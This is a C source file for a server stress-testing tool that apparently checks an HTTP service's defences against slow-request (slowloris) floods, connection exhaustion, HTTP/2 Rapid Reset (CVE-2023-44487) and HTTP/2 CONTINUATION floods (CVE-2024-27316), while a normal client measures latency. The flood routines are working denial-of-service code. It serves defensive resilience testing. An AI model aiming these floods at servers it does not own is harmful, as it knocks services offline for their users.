/* crowd WHAT ADDRESS ...: clients that are many, slow or mean, and a good one beside them.
 *
 *   crowd keep HOST:PORT N          N connections, each asked twice, all open at the same time
 *   crowd slow HOST:PORT HEADS BODIES SECONDS   requests that never end, a byte each two seconds
 *   crowd reset HOST:PORT PAIRS     HTTP/2: requests taken back at once (CVE-2023-44487)
 *   crowd fields HOST:PORT BYTES    HTTP/2: fields without end, BYTES a frame (CVE-2024-27316)
 *
 * Prints "NAME FIGURE" lines; what they mean is for the caller to judge. Status 1: what was asked
 * did not come. Times of the good client are in microseconds. HOST is an IPv4 address. */
#include "base/thread.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define ASK "GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n"
#define SAMPLES 400000u
#define IDLE_SECONDS 1.5

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + 1e-9 * (double)t.tv_nsec;
}

static void nap(double seconds)
{
    struct timespec t = {(time_t)seconds, (long)((seconds - (double)(time_t)seconds) * 1e9)};
    nanosleep(&t, NULL);
}

static int dial(const struct sockaddr_in *to)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), on = 1;
    struct timeval most = {5, 0};
    if (fd < 0)
        return -1;
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &most, sizeof most);
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &most, sizeof most);
    if (connect(fd, (const struct sockaddr *)to, sizeof *to) == 0)
        return fd;
    close(fd);
    return -1;
}

static bool say(int fd, const void *p, size_t n)
{
    return send(fd, p, n, MSG_NOSIGNAL) == (ssize_t)n;
}

static bool ask(int fd)
{
    char answer[1024];
    return say(fd, ASK, sizeof ASK - 1) && recv(fd, answer, sizeof answer, 0) > 12 &&
           memcmp(answer, "HTTP/1.1 200", 12) == 0;
}

/* --- the good client: one request after the other, times by phase --- */

enum phase { BEFORE, DURING, AFTER, OVER };

struct good {
    struct sockaddr_in to;
    struct mlp_thread *thread;
    atomic_int phase;
    float *us[OVER];
    unsigned n[OVER], failed;
};

static void be_good(void *p)
{
    struct good *g = p;
    int fd = dial(&g->to), phase;
    while ((phase = atomic_load(&g->phase)) != OVER) {
        double start = now();
        if (!ask(fd)) {
            g->failed++;
            close(fd);
            fd = dial(&g->to);
            nap(0.01);
        } else if (g->n[phase] < SAMPLES) {
            g->us[phase][g->n[phase]++] = (float)((now() - start) * 1e6);
        }
        nap(0.0005);
    }
    close(fd);
}

static bool good_begin(struct good *g, const struct sockaddr_in *to)
{
    struct mlp_err e;
    mlp_err_init(&e);
    *g = (struct good){.to = *to};
    for (int i = 0; i < OVER; i++)
        if (!(g->us[i] = malloc(SAMPLES * sizeof *g->us[i])))
            return false;
    if (mlp_thread_start(&g->thread, be_good, g, &e) != MLP_OK)
        return false;
    nap(IDLE_SECONDS);
    atomic_store(&g->phase, DURING);
    return true;
}

static int by_size(const void *a, const void *b)
{
    float x = *(const float *)a, y = *(const float *)b;
    return (x > y) - (x < y);
}

static void print_phase(struct good *g, int phase, const char *name)
{
    unsigned n = g->n[phase];
    if (!n)
        return;
    qsort(g->us[phase], n, sizeof *g->us[phase], by_size);
    printf("%s-p50 %.0f\n%s-p99 %.0f\n", name, (double)g->us[phase][n / 2], name,
           (double)g->us[phase][n / 100 * 99]);
}

static bool good_end(struct good *g)
{
    atomic_store(&g->phase, AFTER);
    nap(IDLE_SECONDS);
    atomic_store(&g->phase, OVER);
    mlp_thread_join(g->thread);
    print_phase(g, BEFORE, "before");
    print_phase(g, DURING, "during");
    print_phase(g, AFTER, "after");
    printf("good-answers %u\ngood-failed %u\n", g->n[BEFORE] + g->n[DURING] + g->n[AFTER],
           g->failed);
    for (int i = 0; i < OVER; i++)
        free(g->us[i]);
    return g->failed == 0;
}

/* --- many --- */

static int keep(const struct sockaddr_in *to, char **argv)
{
    unsigned n = (unsigned)strtoul(argv[0], NULL, 10), opened = 0, answers = 0;
    int *fds = calloc(n + 1, sizeof *fds);
    if (!fds)
        return 4;
    for (unsigned i = 0; i < n; i++)
        opened += (fds[i] = dial(to)) >= 0;
    for (int round = 0; round < 2; round++)
        for (unsigned i = 0; i < n; i++)
            answers += fds[i] >= 0 && ask(fds[i]);
    printf("opened %u\nanswers %u\n", opened, answers);
    fflush(stdout);
    if (argv[1]) { /* held until the caller has looked at the server */
        char c;
        ssize_t got = read(STDIN_FILENO, &c, 1);
        (void)got;
    }
    free(fds);
    return opened == n && answers == 2 * n ? 0 : 1;
}

/* --- slow --- */

struct slow {
    struct pollfd *fds;
    double *start;
    unsigned n, cut, alive;
    double first, last;         /* seconds until the first and the last of them was cut */
};

static void slow_add(struct slow *s, const struct sockaddr_in *to, const char *begin)
{
    int fd = dial(to);
    if (fd < 0 || !say(fd, begin, strlen(begin)))
        return;
    s->fds[s->n] = (struct pollfd){fd, POLLIN | POLLRDHUP, 0};
    s->start[s->n++] = now();
    s->alive++;
}

static void slow_look(struct slow *s)
{
    if (poll(s->fds, s->n, 50) <= 0)
        return;
    for (unsigned i = 0; i < s->n; i++) {
        double took = now() - s->start[i];
        if (s->fds[i].fd < 0 || !s->fds[i].revents)
            continue;
        close(s->fds[i].fd);
        s->fds[i].fd = -1;
        s->first = s->cut == 0 || took < s->first ? took : s->first;
        s->last = took > s->last ? took : s->last;
        s->cut++;
        s->alive--;
    }
}

/* Each of them a byte, spread over two seconds. */
static void slow_drip(struct slow *s, double until)
{
    while (s->alive && now() < until) {
        double begin = now();
        for (unsigned part = 0; part < 20; part++) {
            for (unsigned i = part; i < s->n; i += 20)
                if (s->fds[i].fd >= 0)
                    say(s->fds[i].fd, "x", 1);
            slow_look(s);
            double rest = begin + 0.1 * (part + 1) - now();
            if (rest > 0)
                nap(rest);
        }
    }
}

static int slow(const struct sockaddr_in *to, char **argv)
{
    unsigned heads = (unsigned)strtoul(argv[0], NULL, 10);
    unsigned bodies = (unsigned)strtoul(argv[1], NULL, 10);
    struct slow s = {.fds = calloc(heads + bodies + 1, sizeof *s.fds),
                     .start = calloc(heads + bodies + 1, sizeof *s.start)};
    struct good g;
    if (!s.fds || !s.start || !good_begin(&g, to))
        return 4;
    for (unsigned i = 0; i < heads; i++)
        slow_add(&s, to, "GET /healthz HTTP/1.1\r\nHost: a\r\nX-A: ");
    for (unsigned i = 0; i < bodies; i++)
        slow_add(&s, to, "POST /predict HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\n{");
    slow_drip(&s, now() + strtod(argv[2], NULL));
    bool good = good_end(&g);
    printf("opened %u\ncut %u\nfirst-cut %.1f\nlast-cut %.1f\n", s.n, s.cut, s.first, s.last);
    free(s.fds);
    free(s.start);
    return good && s.n == heads + bodies && s.cut == s.n ? 0 : 1;
}

/* --- HTTP/2: frames by hand (RFC 9113, 4.1; RFC 7541) --- */

enum { HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, CONTINUATION = 9 };

static const char request[] = "\x82\x86\x84\x41\x01" "a"; /* GET http / a */

static size_t frame(unsigned char *to, unsigned type, unsigned flags, unsigned id, size_t n)
{
    const unsigned char head[9] = {(unsigned char)(n >> 16), (unsigned char)(n >> 8),
                                   (unsigned char)n, (unsigned char)type, (unsigned char)flags,
                                   (unsigned char)(id >> 24), (unsigned char)(id >> 16),
                                   (unsigned char)(id >> 8), (unsigned char)id};
    memcpy(to, head, sizeof head);
    return sizeof head;
}

static int dial_h2(const struct sockaddr_in *to)
{
    unsigned char hello[64] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    int fd = dial(to);
    size_t n = 24 + frame(hello + 24, SETTINGS, 0, 0, 0);
    if (fd >= 0 && say(fd, hello, n))
        return fd;
    close(fd);
    return -1;
}

/* Throws away what came; true when the server has closed, or does within ms. */
static bool is_cut(int fd, int ms)
{
    char junk[65536];
    struct pollfd p = {fd, POLLIN, 0};
    while (poll(&p, 1, ms) > 0) {
        ssize_t n = recv(fd, junk, sizeof junk, 0);
        if (n <= 0)
            return true;
        ms = 0;
    }
    return false;
}

static size_t add_pair(unsigned char *to, unsigned id)
{
    size_t n = frame(to, HEADERS, 5, id, sizeof request - 1);
    memcpy(to + n, request, sizeof request - 1);
    n += sizeof request - 1;
    n += frame(to + n, RST_STREAM, 0, id, 4);
    memcpy(to + n, "\0\0\0\x08", 4);
    return n + 4;
}

/* Pairs sent on one connection until it is cut. */
static unsigned reset_one(const struct sockaddr_in *to, unsigned most)
{
    unsigned char text[50 * 64];
    int fd = dial_h2(to);
    unsigned sent = 0;
    bool cut = fd < 0;
    while (!cut && sent < most) {
        size_t n = 0;
        for (unsigned i = 0; i < 50; i++)
            n += add_pair(text + n, (sent + i) * 2 + 1);
        cut = !say(fd, text, n) || is_cut(fd, 1);
        sent += 50;
    }
    close(fd);
    return sent;
}

static int reset(const struct sockaddr_in *to, char **argv)
{
    unsigned pairs = (unsigned)strtoul(argv[0], NULL, 10), sent = 0, most = 0, connections = 0;
    struct good g;
    if (!good_begin(&g, to))
        return 4;
    double start = now();
    while (sent < pairs && connections < pairs) {
        unsigned n = reset_one(to, pairs);
        most = n > most ? n : most;
        sent += n;
        connections++;
    }
    double took = now() - start;
    bool good = good_end(&g);
    printf("pairs %u\nconnections %u\nmost-on-one %u\nseconds %.1f\n", sent, connections, most,
           took);
    return good && sent >= pairs ? 0 : 1;
}

static int fields(const struct sockaddr_in *to, char **argv)
{
    size_t bytes = strtoul(argv[0], NULL, 10), n;
    unsigned char *text = calloc(1, bytes + 64);
    unsigned frames = 0;
    struct good g;
    if (!text || !good_begin(&g, to))
        return 4;
    int fd = dial_h2(to);
    n = frame(text, HEADERS, 1, 1, sizeof request - 1);
    memcpy(text + n, request, sizeof request - 1);
    bool cut = fd < 0 || !say(fd, text, n + sizeof request - 1);
    n = frame(text, CONTINUATION, 0, 1, bytes);
    for (size_t i = n; i + 4 <= n + bytes; i += 4)
        memcpy(text + i, "\x10\x01x\0", 4); /* a field, never indexed: x with no value */
    while (!cut && frames < 100000) {
        /* Time enough for a busy server to read it. */
        cut = !say(fd, text, bytes + 9) || is_cut(fd, 150);
        frames++;
    }
    bool good = good_end(&g);
    printf("frames %u\nbytes %zu\ncut %d\n", frames, frames * bytes, cut);
    close(fd);
    free(text);
    return good && cut ? 0 : 1;
}

/* --- */

static bool parse_address(const char *text, struct sockaddr_in *to)
{
    char host[64];
    const char *colon = strrchr(text, ':');
    if (!colon || (size_t)(colon - text) >= sizeof host)
        return false;
    memcpy(host, text, (size_t)(colon - text));
    host[colon - text] = 0;
    to->sin_family = AF_INET;
    to->sin_port = htons((uint16_t)strtoul(colon + 1, NULL, 10));
    return inet_pton(AF_INET, host, &to->sin_addr) == 1;
}

int main(int argc, char **argv)
{
    static const struct {
        const char *name;
        int operands;
        int (*run)(const struct sockaddr_in *, char **);
    } modes[] = {{"keep", 1, keep}, {"slow", 3, slow}, {"reset", 1, reset}, {"fields", 1, fields}};
    struct sockaddr_in to = {0};
    for (size_t i = 0; argc > 3 && i < sizeof modes / sizeof *modes; i++)
        if (strcmp(argv[1], modes[i].name) == 0 && argc >= 3 + modes[i].operands &&
            parse_address(argv[2], &to))
            return modes[i].run(&to, argv + 3);
    fputs("usage: crowd keep|slow|reset|fields HOST:PORT N...\n", stderr);
    return 2;
}
